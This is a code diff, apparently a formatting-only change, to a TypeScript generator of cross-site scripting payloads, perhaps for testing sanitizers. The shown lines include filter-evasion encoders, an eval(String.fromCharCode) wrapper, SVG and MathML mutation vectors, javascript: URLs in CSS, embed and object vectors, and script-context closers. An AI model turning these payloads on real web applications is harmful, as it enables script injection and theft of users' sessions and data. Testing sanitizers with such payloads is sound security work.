@@ -52,20 +52,59 @@ const jsTick = (c: XssCall) => `${c.fn}\`${c.arg}\``;
 
 // --- encoders ------------------------------------------------------------------------------
 const chars = (s: string) => Array.from(s);
-const dec = (s: string) => chars(s).map((ch) => `&#${ch.codePointAt(0)};`).join('');
-const decNoSemi = (s: string) => chars(s).map((ch) => `&#${ch.codePointAt(0)}`).join('');
-const decPadded = (s: string) => chars(s).map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')}`).join('');
-const decPaddedSemi = (s: string) => chars(s).map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')};`).join('');
-const hex = (s: string) => chars(s).map((ch) => `&#x${ch.codePointAt(0)!.toString(16)};`).join('');
-const hexUpper = (s: string) => chars(s).map((ch) => `&#X${ch.codePointAt(0)!.toString(16).toUpperCase()};`).join('');
-const hexNoSemi = (s: string) => chars(s).map((ch) => `&#x${ch.codePointAt(0)!.toString(16)}`).join('');
-const hexPadded = (s: string) => chars(s).map((ch) => `&#x${ch.codePointAt(0)!.toString(16).padStart(6, '0')}`).join('');
-const percent = (s: string) => chars(s).map((ch) => `%${ch.codePointAt(0)!.toString(16).padStart(2, '0')}`).join('');
-const mixedCase = (s: string) => chars(s).map((ch, i) => (i % 2 ? ch.toUpperCase() : ch.toLowerCase())).join('');
+const dec = (s: string) =>
+  chars(s)
+    .map((ch) => `&#${ch.codePointAt(0)};`)
+    .join('');
+const decNoSemi = (s: string) =>
+  chars(s)
+    .map((ch) => `&#${ch.codePointAt(0)}`)
+    .join('');
+const decPadded = (s: string) =>
+  chars(s)
+    .map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')}`)
+    .join('');
+const decPaddedSemi = (s: string) =>
+  chars(s)
+    .map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')};`)
+    .join('');
+const hex = (s: string) =>
+  chars(s)
+    .map((ch) => `&#x${ch.codePointAt(0)!.toString(16)};`)
+    .join('');
+const hexUpper = (s: string) =>
+  chars(s)
+    .map((ch) => `&#X${ch.codePointAt(0)!.toString(16).toUpperCase()};`)
+    .join('');
+const hexNoSemi = (s: string) =>
+  chars(s)
+    .map((ch) => `&#x${ch.codePointAt(0)!.toString(16)}`)
+    .join('');
+const hexPadded = (s: string) =>
+  chars(s)
+    .map((ch) => `&#x${ch.codePointAt(0)!.toString(16).padStart(6, '0')}`)
+    .join('');
+const percent = (s: string) =>
+  chars(s)
+    .map((ch) => `%${ch.codePointAt(0)!.toString(16).padStart(2, '0')}`)
+    .join('');
+const mixedCase = (s: string) =>
+  chars(s)
+    .map((ch, i) => (i % 2 ? ch.toUpperCase() : ch.toLowerCase()))
+    .join('');
 const base64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
-const jsUnicode = (s: string) => chars(s).map((ch) => `\\u${ch.codePointAt(0)!.toString(16).padStart(4, '0')}`).join('');
-const jsHex = (s: string) => chars(s).map((ch) => `\\x${ch.codePointAt(0)!.toString(16).padStart(2, '0')}`).join('');
-const fromCharCode = (s: string) => `eval(String.fromCharCode(${chars(s).map((ch) => ch.codePointAt(0)).join(',')}))`;
+const jsUnicode = (s: string) =>
+  chars(s)
+    .map((ch) => `\\u${ch.codePointAt(0)!.toString(16).padStart(4, '0')}`)
+    .join('');
+const jsHex = (s: string) =>
+  chars(s)
+    .map((ch) => `\\x${ch.codePointAt(0)!.toString(16).padStart(2, '0')}`)
+    .join('');
+const fromCharCode = (s: string) =>
+  `eval(String.fromCharCode(${chars(s)
+    .map((ch) => ch.codePointAt(0))
+    .join(',')}))`;
 const fullWidth = (s: string) =>
   chars(s)
     .map((ch) => (ch >= '!' && ch <= '~' ? String.fromCodePoint(ch.codePointAt(0)! + 0xfee0) : ch))
@@ -296,7 +335,8 @@ const svgMathVectors: UrlTemplate[] = [
   (c) => `<svg><animate attributeName=href values=javascript:${js(c)} /><a><text x=20 y=20>X</text></a></svg>`,
   (c) => `<svg><a xlink:href="javascript:${js(c)}"><text x="20" y="20">XSS</text></a></svg>`,
   (c) => `<svg><a href="javascript:${js(c)}"><rect width=100 height=100 /></a></svg>`,
-  (c) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js(c)}'/></svg>#x"/></svg>`,
+  (c) =>
+    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js(c)}'/></svg>#x"/></svg>`,
   (c) => `<svg><image href=x onerror=${js(c)}></image></svg>`,
   (c) => `<svg><foreignObject><iframe srcdoc="<script>parent.${js(c)}</script>"></iframe></foreignObject></svg>`,
   (c) => `<svg><style><img src=x onerror=${js(c)}></style></svg>`,
@@ -310,7 +350,8 @@ const svgMathVectors: UrlTemplate[] = [
   (c) => `<math href="javascript:${js(c)}">CLICKME</math>`,
   (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(c)}">x</maction></math>`,
   (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${js(c)}></style></mglyph></table></mtext></math>`,
-  (c) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${js(c)}>"></style></svg></mglyph></h1></mtext></math>`,
+  (c) =>
+    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${js(c)}>"></style></svg></mglyph></h1></mtext></math>`,
   (c) => `<math><mi xlink:href="data:x,<script>${js(c)}</script>">x</mi></math>`,
   (c) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js(c)}>`,
   (c) => `<noscript><p title="</noscript><img src=x onerror=${js(c)}>"></noscript>`,
@@ -318,11 +359,7 @@ const svgMathVectors: UrlTemplate[] = [
 
 // --- context breakers ----------------------------------------------------------------------------
 /** What a payload runs once it has left its context. */
-const bodies: UrlTemplate[] = [
-  (c) => `<script>${js(c)}</script>`,
-  (c) => `<img src=x onerror=${js(c)}>`,
-  (c) => `<svg onload=${js(c)}>`,
-];
+const bodies: UrlTemplate[] = [(c) => `<script>${js(c)}</script>`, (c) => `<img src=x onerror=${js(c)}>`, (c) => `<svg onload=${js(c)}>`];
 
 const closers: Record<Extract<XssFamily, 'script context' | 'title' | 'style' | 'textarea' | 'comment'>, string[]> = {
   'script context': ['</script>', '</SCRIPT>', '</script >', '</script\t\n>', '</script/x>', '</ScRiPt foo="bar">'],
@@ -426,7 +463,8 @@ const styleVectors: UrlTemplate[] = [
   (c) => `<DIV STYLE="background-image: url(javascript:${js(c)})">x</DIV>`,
   (c) => `<DIV STYLE="background-image: url(&#1;javascript:${js(c)})">x</DIV>`,
   (c) => `<div style="background:url('javascript:${js(c)}')">x</div>`,
-  (c) => `<div style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a${js(c)}'\\0029">x</div>`,
+  (c) =>
+    `<div style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a${js(c)}'\\0029">x</div>`,
   (c) => `<style>@import 'javascript:${js(c)}';</style>`,
   (c) => `<STYLE>@im\\port'\\ja\\vasc\\ript:${js(c)}';</STYLE>`,
   (c) => `<style>body{background:url("javascript:${js(c)}")}</style>`,
@@ -455,7 +493,8 @@ const frameVectors: UrlTemplate[] = [
   (c) => `<OBJECT TYPE="text/x-scriptlet" DATA="data:text/html,<script>${js(c)}</script>"></OBJECT>`,
   (c) => `<object><param name="src" value="javascript:${js(c)}"></object>`,
   (c) => `<embed src="javascript:${js(c)}">`,
-  (c) => `<EMBED SRC="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(c)}"/>`)}" type="image/svg+xml">`,
+  (c) =>
+    `<EMBED SRC="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(c)}"/>`)}" type="image/svg+xml">`,
   (c) => `<embed src="data:text/html,<script>${js(c)}</script>">`,
   (c) => `<applet code="javascript:${js(c)}"></applet>`,
   (c) => `<base href="javascript:${js(c)}//">`,
